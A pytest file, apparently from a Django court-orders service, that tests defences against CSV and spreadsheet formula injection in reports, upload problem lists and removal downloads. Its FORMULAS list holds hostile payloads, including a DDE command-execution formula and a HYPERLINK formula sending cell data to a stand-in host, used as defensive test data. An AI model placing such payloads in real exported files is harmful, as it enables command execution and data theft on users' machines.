"""Tables that leave the service: whatever people typed, a spreadsheet shows it and runs nothing."""

import csv
import io
import re

import openpyxl
import pytest
from django.conf import settings

from csv_ingest.removal import receive_removal
from csv_ingest.services import receive_upload
from govuk.spreadsheets import csv_chunks
from orders import reports
from orders.models import Order
from orders.services.orders import register_orders
from tests.csv_ingest.files import GOOD, HEADINGS, csv_of
from tests.orders.conftest import new_order

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\u202e=", "\ufeff=", " =", "\xa0+", "＝", "＠", "﹢")
FORMULAS = (
    *(f"{start}1+1" for start in STARTS),
    '=HYPERLINK("https://elsewhere.example/?"&A1,"press")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1\r\n=2",
)
# What some spreadsheet or other passes over before it looks for a sign.
PASSED_OVER = re.compile(r"[\s\x00-\x20\xa0\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]*")
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"


def running(cell: str) -> bool:
    """Whether some spreadsheet would run it."""
    rest = PASSED_OVER.sub("", cell, count=1)
    sheet = openpyxl.Workbook().active
    sheet["A1"] = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", cell)
    return rest[:1] in tuple(SIGNS) or sheet["A1"].data_type == "f" or cell[:1] in "\t\r\n" != cell


def cells_of(response) -> list[str]:
    """Every cell of a download, as a spreadsheet's own reader takes it apart."""
    assert response["Content-Disposition"].startswith("attachment")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True)
    return [cell for row in rows for cell in row]


def holds_but_runs_none(response, words) -> None:
    hold_but_run_none(cells_of(response), words)


def hold_but_run_none(cells, words) -> None:
    assert [cell for cell in cells if cell and running(cell)] == []
    for word in words:
        assert any(word in cell for cell in cells), f"{word!r} is not in the file"


def test_the_check_knows_a_formula():
    assert [word for word in FORMULAS if not running(word)] == []
    assert not any(running(word) for word in ("'=1", "x", "1-2", "O’Brien", "2026-06-01"))


def hostile_orders(*, by, now) -> list[Order]:
    rows = [
        new_order(
            case_number=f"{9355000 + at}1", order_number=word, forename=word, surname=word.strip()
        )
        for at, word in enumerate(FORMULAS)
    ]
    register_orders(rows=rows, by=by, now=now)
    return list(Order.objects.select_related("case"))


def test_a_download_of_a_report_runs_nothing(signed_in, sam, now):
    hostile_orders(by=sam, now=now)
    holds_but_runs_none(signed_in.get("/report/download-orders-not-served"), FORMULAS)


@pytest.mark.parametrize("report", reports.REPORTS, ids=lambda report: report.name)
def test_no_column_of_any_report_runs(sam, now, report):
    orders = hostile_orders(by=sam, now=now)
    for order in orders:
        order.served_at = now
        order.case.case_number = order.order_number
    content = b"".join(csv_chunks(report.headings, map(report.cells, orders)))
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
    assert len(rows) == len(FORMULAS) + 1
    assert not any(running(cell) for row in rows for cell in row if cell)


# (column of the court's spreadsheet, in which lists a formula in it is told): a name is another
# name, or none where something in it cannot be seen.
TOLD = [
    ("Case", ["problems"]),
    ("Ord Type", ["problems"]),
    ("Made Date", ["problems"]),
    ("Issue Date", ["problems"]),
    ("Forename", ["problems", "warnings"]),
    ("Surname", ["problems", "warnings"]),
]


def orders_of_one_case(column) -> bytes:
    """A good row, and for each formula another order of the same case, with it in one column."""
    text = io.StringIO(newline="")
    rows = csv.DictWriter(text, HEADINGS.split(","))
    good = dict(zip(HEADINGS.split(","), GOOD.split(","), strict=True))
    rows.writerow(good)
    rows.writerows(
        {**good, "Order No": f"{2000 + at}", column: word} for at, word in enumerate(FORMULAS)
    )
    return csv_of(text.getvalue().strip())


@pytest.mark.parametrize(("column", "keys"), TOLD, ids=[column for column, _ in TOLD])
def test_the_problems_and_warnings_of_an_upload_run_nothing(signed_in, sam, now, column, keys):
    file = io.BytesIO(orders_of_one_case(column))
    upload = receive_upload(file=file, name="=x.csv", by=sam, now=now)
    cells = []
    for key in keys:
        response = signed_in.get(f"/upload-csv/{upload.pk}/{key}")
        assert response.status_code == 200
        cells += cells_of(response)
    # Each is told, or else nothing was tried.
    assert cells.count(column) == len(FORMULAS)
    hold_but_run_none(cells, ("HYPERLINK", "cmd|"))


def test_the_differences_of_an_upload_run_nothing(signed_in, sam, now):
    def upload(words):
        rows = [
            f'{9355000 + at}1,"M","{word.replace(chr(34), chr(34) * 2)}",1,1,1-Aug-2018,2-Aug-2018'
            for at, word in enumerate(words)
        ]
        return receive_upload(file=io.BytesIO(csv_of(*rows)), name="x.csv", by=sam, now=now)

    upload(["Plain"] * len(FORMULAS))
    told = upload(FORMULAS)
    holds_but_runs_none(signed_in.get(f"/upload-csv/{told.pk}/differences"), ("HYPERLINK", "cmd|"))


def test_the_rows_of_a_removal_run_nothing(signed_in, sam, now):
    text = io.StringIO(newline="")
    rows = csv.writer(text)
    rows.writerow(
        ("Case number", "Court order", "Client Name", "Order Made Date", "Order Issue Date")
    )
    rows.writerows((word, word, word, word, word) for word in FORMULAS)
    file = io.BytesIO(text.getvalue().encode())
    removal = receive_removal(file=file, name="x.csv", by=sam, now=now)
    response = signed_in.get(f"/multiple-case-removal/{removal.pk}/rows")
    holds_but_runs_none(response, ("HYPERLINK", "cmd|"))


def test_no_other_door_writes_tables():
    """One writer, and that one makes cells harmless."""
    rooms = ("accounts", "audit", "csv_ingest", "filestore", "govuk", "orders", "serve_opg")
    writers = [
        str(file.relative_to(settings.BASE_DIR))
        for room in rooms
        for file in (settings.BASE_DIR / room).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)|openpyxl\.Workbook\(", file.read_text())
    ]
    assert writers == ["govuk/spreadsheets.py"]
